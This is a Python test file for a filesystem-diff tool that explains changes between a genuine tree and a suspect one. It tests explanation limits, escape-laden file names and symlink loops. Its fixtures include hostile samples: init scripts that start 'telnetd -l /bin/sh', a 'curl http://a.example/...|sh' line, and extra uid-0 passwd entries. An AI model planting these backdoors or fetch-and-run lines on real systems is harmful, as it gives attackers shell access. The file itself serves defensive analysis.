"""What hostile artefacts do to explanations: ceilings are told, names stay data, and nothing grows without bound."""

from pathlib import Path

from trueware.cli.text import render
from trueware.model.limits import Limits
from trueware.model.result import Result
from trueware.verify import diff


def _differing(folder: Path, genuine: dict[str, bytes], suspect: dict[str, bytes], limits: Limits) -> Result:
    for name, files in (("genuine", genuine), ("suspect", suspect)):
        (folder / name).mkdir()
        for path, content in files.items():
            (folder / name / path).parent.mkdir(parents=True, exist_ok=True)
            (folder / name / path).write_bytes(content)
    return diff(folder / "genuine", folder / "suspect", limits=limits)


def _told(result: Result) -> list[tuple[str, str, str]]:
    return [(each.rule, each.part, each.detail) for told in result.explanations for each in told.findings]


def test_changes_beyond_the_ceiling_are_told(tmp_path: Path) -> None:
    result = _differing(tmp_path, {}, {f"f{n}": b"%d" % n for n in range(30)}, Limits(max_explained_changes=10))
    assert [(each.rule, each.detail) for each in result.findings if each.rule == "limit-reached"] == [
        ("limit-reached", "limit max_explained_changes (10) reached: what 20 more changes do is not told")
    ]
    assert len(result.changes) == 30
    assert len(_told(result)) == 10


def test_files_that_are_too_large_are_told(tmp_path: Path) -> None:
    passwd = b"root:x:0:0::/:/bin/sh\n"
    more = passwd + b"a:x:0:0::/:/bin/sh\n" * 100
    result = _differing(
        tmp_path, {"etc/passwd": passwd}, {"etc/passwd": more}, Limits(max_explained_file=100, max_kept=0)
    )
    ((rule, part, detail),) = _told(result)
    assert (rule, part) == ("change-unreadable", "etc/passwd")
    assert "max_explained_file" in detail


def test_files_that_are_too_many_bytes_together_are_told(tmp_path: Path) -> None:
    files = {f"etc/init.d/s{n}": b"#!/bin/sh\ntelnetd -l /bin/sh\n#%d\n" % n + b"#" * 900 for n in range(8)}
    told = _told(_differing(tmp_path, {}, files, Limits(max_explained=3_000, max_kept=0)))
    beyond = {part for rule, part, detail in told if rule == "change-unreadable" and "max_explained" in detail}
    assert len(beyond) == 5


def test_names_act_on_no_terminal(tmp_path: Path) -> None:
    name = "etc/init.d/S9\x1b]0;x\x07\n\x1b[2J\u202e"
    script = b"#!/bin/sh\n\x1b[31mtelnetd -p 99 -l '/bin/\x1b[2Jsh' &\ncurl http://a.example/\x9b2J|sh\n"
    result = _differing(tmp_path, {}, {name: script, "etc/passwd": b"a\x1b[1m:x:0:0:\x07:/:/bin/sh\n"}, Limits())
    for everything in (False, True):
        text = render(result, everything=everything)
        assert all(line.isprintable() for line in text.split("\n"))


def test_links_that_lead_to_themselves_end(tmp_path: Path) -> None:
    for name in ("genuine", "suspect"):
        (tmp_path / name / "etc/ssl/certs").mkdir(parents=True)
        (tmp_path / name / "etc/passwd").write_text("root:x:0:0::/:/bin/sh\n")
    certs = tmp_path / "suspect/etc/ssl/certs"
    (certs / "a.pem").symlink_to("b.pem")
    (certs / "b.pem").symlink_to("a.pem")
    (certs / "up").symlink_to("..")
    (tmp_path / "suspect/etc/rc5.d").mkdir()
    (tmp_path / "suspect/etc/rc5.d/S10x").symlink_to("S10x")
    result = diff(tmp_path / "genuine", tmp_path / "suspect")
    assert {part for _, part, _ in _told(result)} >= {"etc/rc5.d/S10x", "etc/ssl/certs/a.pem"}
